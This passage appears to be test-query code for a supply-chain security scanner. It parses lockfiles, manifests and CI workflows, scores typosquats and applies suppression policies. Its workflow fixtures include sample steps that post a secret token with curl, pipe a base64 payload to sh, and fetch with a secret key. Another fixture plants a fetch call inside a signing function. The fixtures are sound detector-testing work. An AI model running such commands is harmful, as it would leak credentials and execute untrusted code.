"""Column functions, registry rules, sources and sinks over made-up values picked by key, with SQL of their own."""

from __future__ import annotations

from pyspark.sql import functions as F

from tarnwatch.functions import text as T
from tarnwatch.operators import calibration as CA
from tarnwatch.operators import campaigns as C
from tarnwatch.operators import code_facts as X
from tarnwatch.operators import detectors as D
from tarnwatch.operators import iocs as I
from tarnwatch.operators import policy as PO
from tarnwatch.operators import registry as G
from tarnwatch.operators import reports as RP
from tarnwatch.plans.package_data import CODE, WITH, files, hooks, listed, packages, pick, pick_sql, sql
from tarnwatch.plans.package_queries import _ENTROPY, _mean_name, obfuscated_sql
from tarnwatch.plans.report_queries import _F, _findings
from tarnwatch.sources import lockfiles as L
from tarnwatch.sources import manifests as MF
from tarnwatch.sources import policy as SP
from tarnwatch.sources import scratch
from tarnwatch.sources.tables import table

LOOSE = ["1.2.3", "^2.0.1", "~10.0.0", "v1.0.0", "1.x.0", "12.1.5-beta", "3.4", "0.0.61", "1.25.0", "20.0.0"]
PYTHON = ["1.0.0", "v0.35", "1.0.1rc1", "2", "", "1.0.1", "0.9.12.3", "abc", "10.2.1"]
DIRTY_PATHS = ["./a/../b/c.js", "a//b/./c", "../x/y", "a/b/../../c", "/root/./x", "plain.js", "a\\b\\..\\c"]
REPO_URLS = ["git+https://GitHub.com/A/b.git", "git@github.com:a/b.git", "ssh://git@github.com/a/b", "git://example.org/x/", " https://example.org/y ", "git+ssh://git@host/r.git"]
NAMES = ["loddash", "lodash", "expres", "expr3ss", "@x/lodash", "plain", "reakt", "axois", "l0dash", "unrelated"]
TARGETS = ["lodash", "express", "react", "axios"]
DOMAINS = ["a.example.com", "cdn.example.com", "example.org", "evil.example.com.x", "github.com", "sub.github.com", "notgithub.com"]


def _orders(s, d):
    return table(s, d, "orders").select("o_orderkey", "o_custkey", "o_orderdate", "o_totalprice")


def _one(values, column, of, name="value"):
    """The values picked by order, what a function makes of them."""
    def query(s, d):
        return _orders(s, d).select("o_orderkey", pick(values, "o_orderkey").alias("v")).select("o_orderkey", of(F.col("v")).alias(name))

    return query


def _text(of, name="value"):
    def query(s, d):
        return files(s, d).select("id", of(F.col("content")).alias(name))

    return query


def _texts(s, rows, schema="path string, content string"):
    return s.createDataFrame(rows, schema)


NPM = '{"lockfileVersion": 3, "packages": {"": {"version": "1"}, "node_modules/a": {"version": "1.0.0", "integrity": "sha512-AAEC", "dev": true}, "node_modules/@s/b": {"version": "2.0.0", "optional": true, "peerDependencies": {"x-plugin": "1"}}, "node_modules/a/node_modules/c": {"version": "3.1.0"}}}'
YARN = '# yarn\n\na@^1.0.0:\n  version "1.0.2"\n  resolved "https://registry.yarnpkg.com/a/-/a-1.0.2.tgz"\n  integrity sha512-xx\n\n"@s/b@^2", "@s/b@~2.1":\n  version "2.1.0"\n'
PNPM = "lockfileVersion: '6.0'\npackages:\n  /a@1.0.0:\n    resolution: {integrity: sha512-q}\n  /@s/b@2.0.0(x@1):\n    resolution: {integrity: sha512-r}\n"
LOCKS = [("x/package-lock.json", NPM), ("x/yarn.lock", YARN), ("x/pnpm-lock.yaml", PNPM), ("x/other", ' {"a": 1}'), ("x/odd", "__metadata:\n  version: 6\n"), ("x/none", "nothing")]
MANIFESTS = [
    ("p/requirements.txt", "starlette==0.9.1  # pinned\n-r x.txt\nfastapi>=0.100\nrequests\n"), ("p/pyproject.toml", '[project]\ndependencies = ["starlette>=1.0.1", "httpx[http2]==0.2"]\n'),
    ("q/pyproject.toml", '[tool.poetry.dependencies]\npython = "^3.9"\nstarlette = {version = "^0.8.0"}\n'), ("q/poetry.lock", '[[package]]\nname = "starlette"\nversion = "1.2.0"\n'),
    ("r/Pipfile", '[packages]\nstarlette = "*"\n'), ("r/setup.py", "setup(install_requires=['starlette~=0.20', \"uvicorn\"])"), ("r/setup.cfg", "[options]\ninstall_requires =\n    starlette<1.0\n    anyio\n"), ("r/bad/pyproject.toml", "= no toml"),
]
FLOWS = [
    ("a/.github/workflows/ci.yml", "jobs:\n  t:\n    env: {T: '${{ secrets.NPM }}'}\n    steps:\n      - run: curl -d \"$T\" https://x.example\n      - run: echo fine\n      - uses: actions/checkout@v4\n"),
    ("b/.github/workflows/x.yaml", "jobs:\n  d:\n    steps:\n      - run: echo aGk= | base64 -d | sh\n"), ("c/.github/workflows/bad.yml", "jobs: [unclosed\n  - run: wget $SECRET_KEY http://y.example\n"), ("d/other.yml", "jobs: {}"),
]
IOCS = '{"iocs": [{"type": "packageName", "value": "lib7", "maliciousVersions": ["1.14.1"]}, {"type": "packageScope", "value": "@corp/"}], "waves": {"w2": {"iocs": [{"type": "packageName", "value": "core11"}, {"type": "hash", "value": "ff"}]}}}'
POLICY = """
allow: {packages: ["lib12", "core23@9.9.9"]}
fail_on: high
severity_overrides: {ATK-004: low, ATK-005: critical}
suppress:
  - {atk_id: ATK-001, context: {is_dist_build: true}}
  - {atk_id: ATK-002, package: "17", reason: known}
  - {atk_id: ATK-003, context: {is_test_fixture: false, file_path: "src/1/*.js"}}
  - {atk_id: ATK-006, context: {url_domain: "*.example.com"}}
  - {atk_id: ATK-007, reputation_tier: trusted}
  - {atk_id: ATK-008, context: {provenance_verified: false}}
"""


def _policy_findings(s, d):
    f = _findings(s, d).withColumn("url_domain", pick(DOMAINS, "finding_id"))
    f = f.withColumn("is_known_safe_domain", T.is_safe_domain(F.col("url_domain")))
    return f.withColumn("reputation_tier", SP.tier(F.concat(F.lit("p"), (F.col("package") % 9).cast("string")), ["p3", "p5"]))


def _transitive(s, d):
    deps = _orders(s, d).select((F.col("o_custkey") % 301).alias("package"), pick(NAMES, "o_orderkey").alias("dependency"), pick(LOOSE + ["^99.0.0"], "o_orderkey").alias("spec"))
    return G.transitive(deps, _targets(s), "unrel")


def _targets(s):
    return s.createDataFrame([(t, k) for k, t in enumerate(TARGETS)], "target string, ordinal int")


def _typosquat(s, d):
    c = table(s, d, "customer")
    p = c.select(F.concat(pick(NAMES, "c_custkey"), F.when(F.col("c_custkey") > 10, F.col("c_custkey").cast("string")).otherwise("")).alias("name"), (F.col("c_custkey") * 37 % 500).alias("age_days"), (F.col("c_custkey") * 7919 % 200000).alias("weekly_downloads"))
    return G.typosquat(p, _targets(s), s.createDataFrame([("lodash",)], "name string"))


def _attested(s, d):
    """Statements of every kind, by order."""
    o = _orders(s, d)
    name, version = F.concat(F.lit("p"), F.col("o_custkey").cast("string")), F.lit("1.0.0")
    digest = F.sha2(F.col("o_orderkey").cast("string"), 256)
    subject = F.when(F.col("o_orderkey") % 5 == 0, F.lit("pkg:npm/other@1.0.0")).otherwise(F.concat(F.lit("pkg:npm/"), name, F.lit("@"), version))
    claimed = F.when(F.col("o_orderkey") % 7 == 0, F.lit("00")).otherwise(digest)
    repo = F.when(F.col("o_orderkey") % 3 == 0, F.lit("https://h.example/other")).otherwise(F.lit("https://H.example/r"))
    statement = F.concat(F.lit('{"subject":[{"name":"'), subject, F.lit('","digest":{"sha256":"'), claimed, F.lit('"}}],"predicate":{"buildDefinition":{"externalParameters":{"workflow":{"repository":"'), repo, F.lit('"}}}}}'))
    payload = F.when(F.col("o_orderkey") % 11 == 0, F.lit(None)).when(F.col("o_orderkey") % 13 == 0, F.lit("e30=")).otherwise(F.base64(statement.cast("binary")))
    integrity = F.concat(F.lit("sha256-"), F.base64(F.unhex(digest)))
    v = o.select(name.alias("package"), version.alias("version"), integrity.alias("integrity"), F.replace(payload, F.lit("\r\n"), F.lit("")).alias("payload"), F.lit("git+https://h.example/r.git").alias("repository"), "o_orderkey")
    return v


def _attestation(s, d):
    return G.attestation(_attested(s, d)).groupBy("package", "version", "kind", "score").agg(F.count("*").alias("n"))


def _merge(s, d):
    c, u = table(s, d, "customer"), table(s, d, "supplier")
    a = c.select(F.concat(F.lit("e"), (F.col("c_custkey") % 40).cast("string")).alias("extension"), F.col("c_nationkey").cast("string").alias("version"), F.lit("A").alias("registry"), F.lit("2024-01-01").cast("timestamp").alias("published_at"), F.col("c_custkey").alias("asset_size"))
    b = u.select(F.concat(F.lit("e"), (F.col("s_suppkey") % 60).cast("string")).alias("extension"), F.col("s_nationkey").cast("string").alias("version"), F.lit("B").alias("registry"), F.lit("2023-06-01").cast("timestamp").alias("published_at"), (F.col("s_suppkey") * 3).alias("asset_size"))
    return G.merge_registries(a, b).withColumn("registries", F.array_join("registries", ","))


EVENTS = ["*", "onStartupFinished", "onCommand:x", "workspaceContains:*.py", "onLanguage:js", "on*", "onCommand:*", "workspaceContains", "onStartup", "workspaceContains:foo", "onCommand:a*", "onCommand:bun"]


def _extension_versions(s, d):
    o = table(s, d, "orders")
    ev = F.array(pick(EVENTS, "o_orderkey"), pick(EVENTS, "o_orderkey div 7"))
    return o.select((F.col("o_custkey") % 97).cast("string").alias("extension"), F.lpad(F.col("o_orderkey").cast("string"), 9, "0").alias("version"), F.col("o_orderdate").cast("timestamp").alias("published_at"), (F.col("o_orderkey") * 7919 % 900000).alias("asset_size"), F.array_distinct(ev).alias("activation_events"))


def _changes(s, d):
    c = G.extension_changes(_extension_versions(s, d))
    return c.select("extension", "version", F.array_join(F.array_sort("new_events"), ",").alias("new_events"), "size_delta")


def _iocs(s):
    return MF.indicators(_texts(s, [("iocs.json", IOCS)]))


LOCK_NAMES = ["package-lock.json", "yarn.lock", "pnpm-lock.yaml", "pnpm-lock.yml", "other", "npm-shrinkwrap.json", "yarn.lock.bak", "lock"]
LOCK_BEGINS = ["{", "  {", "__metadata:", "x@npm:1", "# a", ""]


def _formats(s, d):
    o = table(s, d, "orders")
    content = F.concat(pick(LOCK_BEGINS, "o_orderkey div 8"), "o_orderstatus")
    return o.select("o_orderkey", L.lockfile_format(F.concat(F.lit("x/"), pick(LOCK_NAMES, "o_orderkey")), content).alias("format"))


def _crypto(s, d):
    """Two versions of every file, its text before a signing function; the later one of every third calls out."""
    f = files(s, d).withColumn("path", F.concat(F.lit("c"), F.col("id").cast("string"), F.lit(".js"))).withColumn("package", F.concat("package", F.lit("#"), F.col("id").cast("string")))
    body = F.concat("content", F.lit("\nfunction sign(a) { return a; }"))
    old = f.select("package", F.lit("1").alias("version"), "path", body.alias("content"))
    new = f.select("package", F.lit("2").alias("version"), "path", F.when(F.col("id") % 3 == 0, F.concat("content", F.lit("\nfunction sign(a) { fetch('http://x'); return a; }"))).otherwise(body).alias("content"))
    order = f.select("package", F.lit("2").alias("version"), F.lit("1").alias("previous"))
    return X.crypto_tamper(old.unionByName(new), order, ["sign", "verify"])


def _sarif(s, d):
    f = _findings(s, d).withColumns({"file": F.col("file_path"), "line": F.when(F.col("finding_id") % 3 > 0, (F.col("finding_id") % 50).cast("int"))})
    return RP.sarif_results(f)


def _packed(s, d):
    """A packed package per region, read back member by member."""
    import io
    import tarfile

    rows = []
    for r in table(s, d, "region").select("r_regionkey", "r_name").orderBy("r_regionkey").limit(100).collect():  # regions are five
        raw = io.BytesIO()
        with tarfile.open(fileobj=raw, mode="w:gz") as t:
            for n, body in (("package/package.json", b"{}"), (f"package/lib/{r['r_name'].lower()}.js", r["r_name"].encode()), ("package/node_modules/x/y.js", b"no")):
                info = tarfile.TarInfo(n)
                info.size = len(body)
                t.addfile(info, io.BytesIO(body))
        rows.append((f"{r['r_regionkey']}.tgz", bytes(raw.getvalue())))
    rows.append(("broken.tgz", b"no archive"))
    got = L.tarballs(s.createDataFrame(rows, "path string, content binary"))
    return got.select("archive", "path", "size", F.sha2("bytes", 256).alias("sha256"))


def _stored(s, d):
    """Scans and findings through the store and back."""
    from tarnwatch.plans.standins import scans
    from tarnwatch.sinks import store
    from uuid import uuid4

    path = f"{scratch.folder(s)}/store-{uuid4().hex}"
    sc = scans(s, d).select("scan_id", F.col("package").cast("string").alias("package"), F.col("scanned_at").cast("timestamp").alias("scanned_at"))
    f = _findings(s, d).select("scan_id", "finding_id", F.when(F.col("finding_id") % 2 == 0, F.col("atk_id")).alias("title"), "description")
    store.save_scans(sc, f, path)
    return s.read.parquet(f"{path}/findings").groupBy("scan_id").agg(F.count("*").alias("findings"), F.min("description").alias("first"))


def _policy(s):
    return SP.load(s, POLICY)


def _applied(s, d):
    p = _policy(s)
    return PO.override(PO.suppress(_policy_findings(s, d), p.suppress), p.overrides).select("finding_id", "severity")


QUERIES = {
    "fn_zero_width": lambda s, d: files(s, d).select("id", T.zero_width(F.col("content")).alias("z")).where("size(z) > 0").select("id", F.concat_ws(",", F.col("z").cast("array<string>")).alias("positions")),
    "fn_is_obfuscated": _text(T.is_obfuscated),
    "fn_is_dense": _text(T.is_dense),
    "fn_encoding_type": _text(T.encoding_type),
    "fn_decode_preview": lambda s, d: files(s, d).select("id", T.decode_preview(F.col("content")).alias("value")).where("value IS NOT NULL"),
    "fn_semver_lenient": lambda s, d: _orders(s, d).select("o_orderkey", *[T.lenient_part(pick(LOOSE, "o_orderkey"), i).alias(n) for i, n in ((1, "major"), (2, "minor"), (3, "patch"))]),
    "fn_version_score": _one(LOOSE, "v", T.version_score),
    "fn_python_release": _one(PYTHON, "v", lambda v: F.concat_ws(".", *[T.release(v)[x].cast("string") for x in ("major", "minor", "micro")])),
    "fn_inflation": lambda s, d: _orders(s, d).select("o_orderkey", T.inflation(pick(LOOSE, "o_orderkey"), pick(LOOSE, "o_orderkey div 3"), F.col("o_orderkey") % 15).alias("kind")).where("kind IS NOT NULL"),
    "fn_normal_path": _one(DIRTY_PATHS, "v", T.normal_path),
    "fn_repo_url": _one(REPO_URLS, "v", T.repo_url),
    "fn_domains": lambda s, d: _orders(s, d).select("o_orderkey", pick(DOMAINS, "o_orderkey").alias("v")).select("o_orderkey", T.is_safe_domain(F.col("v")).alias("safe"), T.domain_matches(F.col("v"), F.lit("*.example.com")).alias("matches")),
    "fn_path_kinds": lambda s, d: files(s, d).select("id", T.is_dist_build(F.col("path")).alias("dist"), T.is_test_fixture(F.col("path")).alias("test")),
    "fn_magic": lambda s, d: table(s, d, "part").select("p_partkey", T.magic(F.unhex(pick(["7F454C46", "4D5A90", "0061736D", "CFFAEDFE", "CAFEBABE", "2321"], "p_partkey"))).alias("kind")),
    "fn_byte_size": lambda s, d: table(s, d, "documents").select("doc_id", F.octet_length("text").cast("long").alias("bytes"), F.length("text").cast("long").alias("chars")),
    "fn_integrity_hex": lambda s, d: _attested(s, d).select("o_orderkey", F.lower(F.hex(F.unbase64(F.split_part("integrity", F.lit("-"), F.lit(2))))).alias("digest")),
    "fn_map_merge": lambda s, d: packages(s, d).select("package", F.map_entries(F.map_filter(F.map_zip_with("scripts", F.create_map(F.lit("test"), F.lit("later"), F.lit("extra"), F.lit("x")), lambda k, a, b: F.coalesce(b, a)), lambda k, v: v.isNotNull())).alias("m")).select("package", F.array_join(F.array_sort(F.transform("m", lambda e: F.concat(e["key"], F.lit("="), e["value"]))), ";").alias("merged")),
    "findings_by_severity": lambda s, d: RP.by_severity(_findings(s, d)).select("finding_id", "package", "atk_id", "severity"),
    "cra_table": lambda s, d: RP.control_table(_findings(s, d).where("severity = 'critical' AND atk_id < 'ATK-009'"), RP.cra_controls(s)),
    "sbom_spdx": lambda s, d: RP.spdx(_findings(s, d).select("package", "version").distinct(), _findings(s, d)),
    "sarif_results": _sarif,
    "provenance_record": lambda s, d: RP.signed(RP.provenance(packages(s, d).select(F.col("package").alias("rule"), F.array("version", "publisher").alias("indicators"))), "digest", b"a key"),
    "fp_examples": lambda s, d: CA.examples(_findings(s, d).dropDuplicates(["finding_id"])).select("detector", "finding_id", "position"),
    "policy_rules": lambda s, d: _policy(s).suppress.select("atk_id", "package", "reason", "reputation_tier", "path_regex", "url_domain", *[F.col(c).cast("string").alias(c) for c in SP.CONTEXT]),
    "policy_allowed": lambda s, d: PO.allowed(packages(s, d).select("package", "version"), _policy(s).allow),
    "policy_applied": _applied,
    "policy_blocked": lambda s, d: PO.fails(_applied(s, d).join(_findings(s, d).select("finding_id", "scan_id"), "finding_id"), _policy(s).fail_on),
    "reputation_tier": lambda s, d: _orders(s, d).select("o_orderkey", SP.tier(pick(["react", "@react/dom", "left", "@x/react"], "o_orderkey"), ["react"]).alias("tier")),
    "typosquat_scores": _typosquat,
    "reputable_bail": lambda s, d: D.version_confusion(_orders(s, d).select("o_orderkey", pick(["react", "left", "@angular/cli", "lodash2", "pg"], "o_orderkey").alias("package"), pick(["9.9.9", "99.99.99", "1.0.0"], "o_orderkey").alias("version")), G.reputable(s)),
    "transitive_deps": _transitive,
    "attestation": _attestation,
    "registry_versions": _merge,
    "extension_changes": _changes,
    "activation_severity": _one(EVENTS, "v", G.activation_severity),
    "size_budget": lambda s, d: G.size_budget(table(s, d, "part").select("p_partkey", (F.col("p_size") * 20_000_000).alias("length"))),
    "ioc_by_name": lambda s, d: I.by_name(packages(s, d).select("package", "version"), _iocs(s)).select("package", "version", "wave"),
    "ioc_by_scope": lambda s, d: I.by_scope(packages(s, d).select("package", "version"), _iocs(s)).select("package", "version", "value"),
    "ioc_integrity": lambda s, d: I.by_integrity(_attested(s, d), _attested(s, d).where("o_orderkey % 17 = 0")).select("o_orderkey", "package"),
    "crypto_tamper": _crypto,
    "lockfile_formats": _formats,
    "lockfile_pnpm": lambda s, d: L.pnpm_packages(_texts(s, LOCKS[2:3])),
    "python_manifests": lambda s, d: MF.python_requirements(_texts(s, MANIFESTS)),
    "bad_host_campaign": lambda s, d: C.bad_host_requirements(MF.python_requirements(_texts(s, MANIFESTS))),
    "workflow_steps": lambda s, d: MF.workflow_steps(_texts(s, FLOWS)).select("path", "job", "step", "run", F.concat_ws(",", F.map_values("env")).alias("env")),
    "packed_archives": _packed,
    "store_round_trip": _stored,
}


def _values(rows, names):
    def lit(x):
        return "NULL" if x is None else str(x).lower() if isinstance(x, bool) else sql(x) if isinstance(x, str) else str(x)

    return "SELECT * FROM (VALUES " + ", ".join("(" + ", ".join(map(lit, r)) + ")" for r in rows) + f") t({names})"


_NOT_PATH = r"^[~^]"
_L = "WITH o AS (SELECT o_orderkey, " + pick_sql(LOOSE, "o_orderkey") + " AS v, " + pick_sql(LOOSE, "o_orderkey // 3") + " AS w FROM orders),\n"
_PARTS = "list_transform(string_split(regexp_replace({0}, '^[~^]', ''), '.'), lambda x: TRY_CAST(nullif(regexp_extract(x, '^\\s*([+-]?\\d+)', 1), '') AS BIGINT))"
_GOOD = "(len({0}) >= 3 AND {0}[1] IS NOT NULL AND {0}[2] IS NOT NULL AND {0}[3] IS NOT NULL)"
_V = _L + f"p AS (SELECT o_orderkey, v, w, {_PARTS.format('v')} AS a, {_PARTS.format('w')} AS b FROM o)\n"
_NORMAL = ["b/c.js", "a/b/c", "../x/y", "c", "root/x", "plain.js", "a/c"]
_URLS = ["https://github.com/a/b", "https://github.com/a/b", "https://github.com/a/b", "https://example.org/x", "https://example.org/y", "https://host/r"]

ORACLE = {
    "fn_zero_width": WITH + "SELECT id, array_to_string(list_transform(list_filter(range(1, length(content) + 1), lambda i: unicode(content[i]) IN (8203, 8204, 8205, 65279)), lambda i: i - 1), ',') AS positions FROM files WHERE regexp_matches(content, '[' || chr(8203) || '-' || chr(8205) || chr(65279) || ']')",
    "fn_is_obfuscated": WITH + f"SELECT id, {obfuscated_sql('content')} AS value FROM files",
    "fn_is_dense": WITH + f"SELECT id, coalesce({_mean_name('content')} < 3, false) OR {_ENTROPY.format('content')} > 5.5 AS value FROM files",
    "fn_encoding_type": WITH + """SELECT id, CASE WHEN regexp_matches(content, 'Buffer\\.from\\([''"][0-9a-fA-F]+[''"],\\s*[''"]hex[''"]\\)') THEN 'hex' WHEN contains(content, 'atob(') OR contains(content, 'btoa(') OR regexp_matches(content, 'Buffer\\.from\\([A-Za-z0-9+/=]{10,}') THEN 'base64'
  WHEN contains(content, 'String.fromCharCode(') THEN 'charcode' ELSE 'unknown' END AS value FROM files""",
    "fn_decode_preview": WITH + """, x AS (SELECT id, nullif(regexp_extract(content, 'atob\\([''"]([A-Za-z0-9+/=]{10,})[''"]\\)', 1), '') AS b, nullif(regexp_extract(content, 'Buffer\\.from\\([''"]((?:[0-9a-fA-F]{2})+)[''"],\\s*[''"]hex[''"]\\)', 1), '') AS h FROM files)
SELECT id, coalesce(decode(from_base64(b)), decode(unhex(h))) AS value FROM x WHERE b IS NOT NULL OR h IS NOT NULL""",
    "fn_semver_lenient": _V + f"SELECT o_orderkey, CASE WHEN {_GOOD.format('a')} THEN a[1] END AS major, CASE WHEN {_GOOD.format('a')} THEN a[2] END AS minor, CASE WHEN {_GOOD.format('a')} THEN a[3] END AS patch FROM p",
    "fn_version_score": _V + "SELECT o_orderkey, CASE WHEN regexp_matches(v, '^v?\\d+\\.\\d+\\.\\d+$') THEN CAST(regexp_extract(v, '^v?(\\d+)', 1) AS BIGINT) * 10000 + a[2] * 100 + a[3] END AS value FROM p",
    "fn_python_release": "SELECT o_orderkey, " + pick_sql(["1.0.0", "0.35.0", "1.0.1", "2.0.0", "", "1.0.1", "0.9.12", "", "10.2.1"], "o_orderkey") + " AS value FROM orders",
    "fn_inflation": _V + f"SELECT * FROM (SELECT o_orderkey, CASE WHEN a[1] - b[1] > 10 THEN 'major' WHEN a[2] - b[2] > 20 THEN 'minor' WHEN a[3] - b[3] > 50 THEN 'patch' END AS kind FROM p WHERE o_orderkey % 15 >= 7 AND {_GOOD.format('a')} AND {_GOOD.format('b')}) WHERE kind IS NOT NULL",
    "fn_normal_path": "SELECT o_orderkey, " + pick_sql(_NORMAL, "o_orderkey") + " AS value FROM orders",
    "fn_repo_url": "SELECT o_orderkey, " + pick_sql(_URLS, "o_orderkey") + " AS value FROM orders",
    "fn_domains": "SELECT o_orderkey, " + pick_sql(DOMAINS, "o_orderkey") + " IN ('github.com', 'sub.github.com') AS safe, " + pick_sql(DOMAINS, "o_orderkey") + " IN ('a.example.com', 'cdn.example.com') AS matches FROM orders",
    "fn_path_kinds": WITH + "SELECT id, path LIKE '%/dist/%' OR path LIKE '%/build/%' OR path LIKE '%/bundle%' OR path LIKE '%.min.js' AS dist, path LIKE '%/test/%' OR path LIKE '%.test.js' OR path LIKE '%fixture%' AS test FROM files",
    "fn_magic": "SELECT p_partkey, ['elf', 'pe', 'wasm', 'mach-o', 'fat', NULL][p_partkey % 6 + 1] AS kind FROM part",
    "fn_byte_size": "SELECT doc_id, CAST(strlen(text) AS BIGINT) AS bytes, CAST(length(text) AS BIGINT) AS chars FROM documents",
    "fn_map_merge": WITH + "SELECT package, array_to_string(list_sort(list_distinct(['test=later', 'extra=x', CASE WHEN hook = 'test' THEN 'test=later' ELSE hook || '=' || body END])), ';') AS merged FROM packages",
    "findings_by_severity": _F + "SELECT finding_id, package, atk_id, severity FROM f",
    "cra_table": _F + f"""SELECT m.article, m.title, m.atk_id, count(f.finding_id) AS findings, CASE WHEN count(f.finding_id) > 0 THEN 'FAIL' ELSE 'PASS' END AS status
FROM ({_values(RP.CRA, 'article, title, atk_id')}) m LEFT JOIN f ON f.atk_id = m.atk_id AND f.severity = 'critical' AND f.atk_id < 'ATK-009' GROUP BY ALL""",
    "policy_rules": _values([
        ("ATK-001", "*", "", None, None, None, "true", None, None, None, None), ("ATK-002", "17", "known", None, None, None, None, None, None, None, None), ("ATK-003", "*", "", None, r"^src/1/[^/]*\.js$", None, None, "false", None, None, None),
        ("ATK-006", "*", "", None, None, "*.example.com", None, None, None, None, None), ("ATK-007", "*", "", "trusted", None, None, None, None, None, None, None), ("ATK-008", "*", "", None, None, None, None, None, None, None, "false"),
    ], "atk_id, package, reason, reputation_tier, path_regex, url_domain, is_dist_build, is_test_fixture, is_lifecycle_hook, is_known_safe_domain, provenance_verified"),
    "policy_allowed": WITH + "SELECT package, version FROM packages WHERE package <> 'lib12' AND NOT (package = 'core23' AND version = '9.9.9')",
    "reputation_tier": "SELECT o_orderkey, CASE WHEN o_orderkey % 4 < 2 THEN 'trusted' ELSE 'unknown' END AS tier FROM orders",
    "transitive_deps": f"""WITH t AS (SELECT o_custkey % 301 AS package, {pick_sql(NAMES, 'o_orderkey')} AS d, {pick_sql(LOOSE + ['^99.0.0'], 'o_orderkey')} AS spec FROM orders),
w AS (SELECT package, CASE WHEN contains(d, 'unrel') THEN 55 ELSE 0 END + CASE WHEN EXISTS (SELECT 1 FROM (SELECT unnest({listed(TARGETS)}) AS n) WHERE levenshtein(n, d) BETWEEN 1 AND 2) THEN 50 ELSE 0 END
  + CASE WHEN spec = '^99.0.0' THEN 55 ELSE 0 END AS w FROM t)
SELECT * FROM (SELECT package, CAST(least(100, max(w) + least(15, (count(*) - 1) * 5)) AS INT) AS score FROM w WHERE w > 0 GROUP BY package) WHERE score >= 50""",
    "registry_versions": """SELECT extension, version, array_to_string(list_sort(list_distinct(list(registry))), ',') AS registries, min(born) AS published_at, max(size) AS asset_size FROM (
  SELECT 'e' || CAST(c_custkey % 40 AS VARCHAR) AS extension, CAST(c_nationkey AS VARCHAR) AS version, 'A' AS registry, TIMESTAMP '2024-01-01' AS born, c_custkey AS size FROM customer
  UNION ALL SELECT 'e' || CAST(s_suppkey % 60 AS VARCHAR), CAST(s_nationkey AS VARCHAR), 'B', TIMESTAMP '2023-06-01', s_suppkey * 3 FROM supplier) GROUP BY extension, version""",
    "extension_changes": f"""WITH v AS (SELECT CAST(o_custkey % 97 AS VARCHAR) AS extension, lpad(CAST(o_orderkey AS VARCHAR), 9, '0') AS version, o_orderdate AS born, o_orderkey * 7919 % 900000 AS size,
  list_distinct([{pick_sql(EVENTS, 'o_orderkey')}, {pick_sql(EVENTS, 'o_orderkey // 7')}]) AS ev FROM orders),
n AS (SELECT *, row_number() OVER w AS no, max(size) OVER w - min(size) OVER w > 409600 AS size_delta, flatten(list(ev) OVER (PARTITION BY extension ORDER BY born, version ROWS BETWEEN UNBOUNDED PRECEDING AND 1 PRECEDING)) AS seen
  FROM v WINDOW w AS (PARTITION BY extension ORDER BY born, version ROWS UNBOUNDED PRECEDING))
SELECT extension, version, CASE WHEN no = 1 THEN '' ELSE array_to_string(list_sort(list_filter(ev, lambda e: NOT list_contains(seen, e))), ',') END AS new_events, size_delta FROM n""",
    "activation_severity": "SELECT o_orderkey, " + pick_sql(["critical", "high", "", "high", "", "high", "low", "high", "", "", "high", ""], "o_orderkey").join(["nullif(", ", '')"]) + " AS value FROM orders",
    "size_budget": "SELECT p_partkey, p_size * 20000000 AS length FROM part WHERE p_size <= 25",
    "ioc_by_name": WITH + "SELECT package, version, CASE package WHEN 'core11' THEN 'w2' END AS wave FROM packages WHERE package = 'core11' OR (package = 'lib7' AND version = '1.14.1')",
    "ioc_by_scope": WITH + "SELECT package, version, '@corp/' AS value FROM packages WHERE starts_with(package, '@corp/')",
    "crypto_tamper": WITH + "SELECT package || '#' || CAST(id AS VARCHAR) AS package, '2' AS version, 'sign' AS name, 85 AS score, 'high' AS severity FROM files WHERE id % 3 = 0",
    "lockfile_formats": f"""WITH t AS (SELECT o_orderkey, {pick_sql(LOCK_NAMES, 'o_orderkey')} AS n, {pick_sql(LOCK_BEGINS, 'o_orderkey // 8')} || o_orderstatus AS c FROM orders)
SELECT o_orderkey, CASE WHEN n = 'yarn.lock' THEN 'yarn' WHEN n IN ('pnpm-lock.yaml', 'pnpm-lock.yml') THEN 'pnpm' WHEN ends_with(n, '.json') THEN 'npm' WHEN starts_with(ltrim(c), '{{') THEN 'npm' WHEN contains(c, '__metadata') OR contains(c, '@npm:') THEN 'yarn' END AS format FROM t""",
    "lockfile_pnpm": _values([("x/pnpm-lock.yaml", "a", "1.0.0", "sha512-q"), ("x/pnpm-lock.yaml", "@s/b", "2.0.0", "sha512-r")], "path, name, version, integrity"),
    "python_manifests": _values([
        ("p/requirements.txt", "starlette", "==", "0.9.1"), ("p/requirements.txt", "fastapi", ">=", "0.100"), ("p/requirements.txt", "requests", None, None), ("p/pyproject.toml", "starlette", ">=", "1.0.1"), ("p/pyproject.toml", "httpx", "==", "0.2"),
        ("q/pyproject.toml", "python", "^", "3.9"), ("q/pyproject.toml", "starlette", "^", "0.8.0"), ("q/poetry.lock", "starlette", "==", "1.2.0"), ("r/Pipfile", "starlette", None, None), ("r/setup.py", "starlette", "~=", "0.20"), ("r/setup.py", "uvicorn", None, None),
        ("r/setup.cfg", "starlette", "<", "1.0"), ("r/setup.cfg", "anyio", None, None)], "path, name, operator, version"),
    "bad_host_campaign": _values([("p/requirements.txt", "0.9.1", "unsafe"), ("q/pyproject.toml", "0.8.0", "unsafe"), ("r/Pipfile", None, "unpinned"), ("r/setup.py", "0.20", "unsafe"), ("r/setup.cfg", "1.0", "unsafe")], "path, version, kind"),
    "workflow_steps": _values([
        ("a/.github/workflows/ci.yml", "t", 0, 'curl -d "$T" https://x.example', "${{ secrets.NPM }}"), ("a/.github/workflows/ci.yml", "t", 1, "echo fine", "${{ secrets.NPM }}"), ("b/.github/workflows/x.yaml", "d", 0, "echo aGk= | base64 -d | sh", ""),
        ("c/.github/workflows/bad.yml", None, 0, "wget $SECRET_KEY http://y.example", "")], "path, job, step, run, env"),
    "packed_archives": """SELECT CAST(r_regionkey AS VARCHAR) || '.tgz' AS archive, 'package.json' AS path, CAST(2 AS BIGINT) AS size, sha256('{}') AS sha256 FROM region
UNION ALL SELECT CAST(r_regionkey AS VARCHAR) || '.tgz', 'lib/' || lower(r_name) || '.js', strlen(r_name), sha256(r_name) FROM region""",
    "store_round_trip": _F + "SELECT scan_id, count(*) AS findings, min(CASE WHEN finding_id % 2 = 0 THEN atk_id ELSE description END) AS first FROM f WHERE scan_id IN (SELECT scan_id FROM scans) GROUP BY scan_id",
}

_RULED = """, g AS (SELECT *, {0} AS url_domain, package % 9 IN (3, 5) AS trusted FROM f),
kept AS (SELECT finding_id, scan_id, CASE atk_id WHEN 'ATK-004' THEN 'low' WHEN 'ATK-005' THEN 'critical' ELSE severity END AS severity FROM g WHERE is_lifecycle_hook OR is_multi_layer OR NOT (
